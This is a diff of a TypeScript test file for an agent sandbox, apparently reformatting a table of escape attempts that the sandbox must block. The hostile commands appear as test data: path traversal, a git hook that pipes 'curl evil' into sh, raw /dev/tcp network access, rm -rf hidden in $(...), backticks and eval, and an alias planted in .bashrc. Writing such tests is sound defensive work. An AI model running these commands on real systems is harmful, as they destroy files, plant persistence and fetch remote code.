@@ -31,7 +31,11 @@ const attempts = (): Attempt[] => [
   { name: 'climbing out with ..', cmd: `touch ../../../../../../..${victim}/dots.txt`, untouched: absent(join(victim, 'dots.txt')) },
   { name: 'a symlink in the workspace pointing out', cmd: 'touch door/through-link.txt', untouched: absent(join(victim, 'through-link.txt')) },
   { name: 'writing a git hook', cmd: 'echo "curl evil | sh" > .git/hooks/pre-commit', untouched: absent(join(ws, '.git', 'hooks', 'pre-commit')) },
-  { name: 'network with the network off', cmd: `exec 3<>/dev/tcp/127.0.0.1/${port()} && printf 'GET / HTTP/1.0\\r\\n\\r\\n' >&3 && cat <&3`, untouched: () => hits() === 0 },
+  {
+    name: 'network with the network off',
+    cmd: `exec 3<>/dev/tcp/127.0.0.1/${port()} && printf 'GET / HTTP/1.0\\r\\n\\r\\n' >&3 && cat <&3`,
+    untouched: () => hits() === 0,
+  },
   { name: 'deletion hidden in $(...)', cmd: `echo $(rm -rf ${victim}/precious.txt)`, untouched: victimIntact },
   { name: 'deletion hidden in backticks', cmd: `echo \`rm -rf ${victim}/precious.txt\``, untouched: victimIntact },
   { name: 'deletion through eval', cmd: `eval "rm -rf ${victim}/precious.txt"`, untouched: victimIntact },
@@ -40,7 +44,11 @@ const attempts = (): Attempt[] => [
   { name: 'xargs wrapper', cmd: `echo ${victim}/precious.txt | xargs rm -f`, untouched: victimIntact },
   { name: 'find -exec wrapper', cmd: `find ${victim} -name precious.txt -exec rm -f {} +`, untouched: victimIntact },
   { name: 'assignment prefix', cmd: `FOO=1 rm -rf ${victim}/precious.txt`, untouched: victimIntact },
-  { name: 'appending to a profile', cmd: `echo 'alias ls=evil' >> ${victim}/.bashrc`, untouched: () => readFileSync(join(victim, '.bashrc'), 'utf8') === '# user profile\n' },
+  {
+    name: 'appending to a profile',
+    cmd: `echo 'alias ls=evil' >> ${victim}/.bashrc`,
+    untouched: () => readFileSync(join(victim, '.bashrc'), 'utf8') === '# user profile\n',
+  },
   { name: 'a workdir outside the roots', cmd: 'touch from-workdir.txt', workdir: victim, untouched: absent(join(victim, 'from-workdir.txt')) },
   { name: 'escalation asked for a deletion', cmd: `rm -rf ${victim}/precious.txt`, untouched: victimIntact, escalate: true },
 ];
@@ -62,7 +70,12 @@ describe.skipIf(!probe.available)('the sandbox itself', () => {
   it('still confines a symlink swapped in after the command was approved', async () => {
     mkdirSync(join(ws, 'safe'), { recursive: true });
     const settings = settingsFixture({ cwd: ws, approvalPolicy: 'untrusted', sandboxMode: 'workspace-write' });
-    const prepared = await prepareToolCall({ callId: 'c', name: 'exec_command', kind: 'function', payload: JSON.stringify({ cmd: 'touch safe/after-swap.txt' }) }, settings, sessions, { PATH: process.env.PATH });
+    const prepared = await prepareToolCall(
+      { callId: 'c', name: 'exec_command', kind: 'function', payload: JSON.stringify({ cmd: 'touch safe/after-swap.txt' }) },
+      settings,
+      sessions,
+      { PATH: process.env.PATH },
+    );
     if (prepared.kind !== 'exec') throw new Error('not an exec call');
     // The user approves `touch safe/...` (a workspace path); then the directory becomes a link out.
     rmSync(join(ws, 'safe'), { recursive: true });
